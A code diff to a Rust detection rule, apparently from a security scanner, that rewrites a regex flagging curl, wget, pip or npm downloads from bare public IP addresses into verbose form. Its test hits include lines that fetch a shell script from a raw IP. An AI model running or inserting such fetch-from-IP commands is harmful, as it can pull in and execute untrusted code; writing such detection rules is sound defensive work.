@@ -14,11 +14,13 @@ pub(crate) const RULE: Rule = Rule {
     code_counts: true,
     matcher: Matcher::Raw {
         literals: &["http://", "https://"],
-        pattern: concat!(
-            r"(?i)(?:curl|wget|fetch|iwr|invoke-webrequest|download|git clone|pip install",
-            r"|npm i(?:nstall)?)\b[^\n]{0,80}https?://(?:(?:[1-9]\d?|1[013-9]\d|12[0-689]|2[0-4]\d",
-            r"|25[0-5])\.\d{1,3}\.\d{1,3}\.\d{1,3})[:/]",
-        ),
+        pattern: r"(?ix)
+            # a number instead of a name, but for the machine itself
+            (?:curl|wget|fetch|iwr|invoke-webrequest|download|git\ clone|pip\ install|npm\ i(?:nstall)?)\b
+            [^\n]{0,80}https?://(?:
+                (?:[1-9]\d?|1[013-9]\d|12[0-689]|2[0-4]\d|25[0-5])\.\d{1,3}\.\d{1,3}\.\d{1,3}
+            )[:/]
+        ",
         keep: public_address,
     },
     hits: &["curl http://203.0.113.9/x.sh", "wget https://45.9.1.2:8080/a"],
